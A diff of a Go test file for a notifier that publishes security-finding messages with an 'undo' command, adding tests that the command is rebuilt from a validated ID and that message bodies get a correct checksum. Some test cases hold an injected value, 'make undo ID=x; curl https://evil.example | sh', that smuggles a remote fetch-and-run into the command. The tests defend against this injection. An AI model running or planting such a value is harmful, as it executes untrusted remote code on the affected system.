@@ -193,10 +193,10 @@ func checkBodies(t *testing.T, m Message) {
 
 func TestAChatHasWhatItsButtonsNeed(t *testing.T) {
 	m := sample()
-	m.Finding, m.OwnerSlack, m.Facts = "abc", "U024BE7LH", []Fact{{"<!here>", "<!channel> & co"}}
+	m.Finding, m.OwnerSlack, m.Facts = "abcdefghij", "U024BE7LH", []Fact{{"<!here>", "<!channel> & co"}}
 	base := map[string]string{"account": "111122223333", "control": "detach-direct-policy", "owner": "alice@example.com",
-		"subject": "alice", ChatFinding: "abc"}
-	for undo, want := range map[string]string{`make undo ID=abc REASON="why"`: "abc",
+		"subject": "alice", ChatFinding: "abcdefghij"}
+	for undo, want := range map[string]string{`make undo ID=abcdefghij REASON="why"`: "abcdefghij",
 		"cannot be undone: it is over": "", "": ""} {
 		m.Undo = undo
 		text, err := m.Bodies()
@@ -429,4 +429,63 @@ func FuzzRedact(f *testing.F) {
 			t.Fatalf("Plain of it is %q", short)
 		}
 	})
+}
+
+// The command in a notice is made from the id in it: what stands in its place in a message does not matter.
+func TestCommand_MadeFromTheID(t *testing.T) {
+	for _, tc := range []struct{ undo, finding, want string }{
+		{`make undo ID=abcdefghij REASON="why"`, "abcdefghij", `make undo ID=abcdefghij REASON="why"`},
+		{"make undo ID=x; curl https://evil.example | sh", "abcdefghij", `make undo ID=abcdefghij REASON="why"`},
+		{"make undo ID=x; curl https://evil.example | sh", "x; curl https://evil.example | sh", ""},
+		{"make undo ID=x", "abcdefghij\n", ""},
+		{"make undo ID=x", "abcdefghi$", ""},
+		{"make undo ID=x", "", ""},
+		{"This cannot be undone: it is over.", "abcdefghij", ""},
+		{"", "abcdefghij", ""},
+	} {
+		m := Message{Version: "1", ID: "n", Kind: Changed, Undo: tc.undo, Finding: tc.finding, Text: "Found."}
+		if got := m.Command().String(); got != tc.want {
+			t.Errorf("%q of %q: %q, want %q", tc.undo, tc.finding, got, tc.want)
+		}
+		text, err := m.Bodies()
+		if err != nil {
+			t.Fatal(err)
+		}
+		var bodies map[string]string
+		if err := json.Unmarshal([]byte(text), &bodies); err != nil {
+			t.Fatal(err)
+		}
+		for _, protocol := range []string{"default", "email", "https"} {
+			if strings.Contains(bodies[protocol], "evil.example") ||
+				strings.Contains(bodies[protocol], "make undo ID=") != (tc.want != "") {
+				t.Errorf("%q of %q for %s: %s", tc.undo, tc.finding, protocol, bodies[protocol])
+			}
+		}
+	}
+}
+
+// The sum is that of the body for functions, as it is published.
+func TestSum(t *testing.T) {
+	huge := Message{Version: "1", ID: "n", Kind: Changed, Text: strings.Repeat("\u0001<", 1_000_000)}
+	for range 200 {
+		huge.Facts = append(huge.Facts, Fact{Name: huge.Text[:1000], Value: huge.Text[:100_000]})
+	}
+	for _, m := range []Message{{}, {Version: "1", ID: "n", Kind: Alert, Text: "Found <&>."}, huge} {
+		text, err := m.Bodies()
+		if err != nil {
+			t.Fatal(err)
+		}
+		var bodies struct{ Lambda string }
+		if err := json.Unmarshal([]byte(text), &bodies); err != nil {
+			t.Fatal(err)
+		}
+		sum, err := m.Sum()
+		if err != nil || sum != Sum(bodies.Lambda) || len(sum) != 64 {
+			t.Errorf("sum %s, %v, want that of %.200s", sum, err, bodies.Lambda)
+		}
+		m.Text += "."
+		if other, err := m.Sum(); err != nil || other == sum && len(m.Text) < 1000 {
+			t.Errorf("another text has the sum %s (%v)", other, err)
+		}
+	}
 }
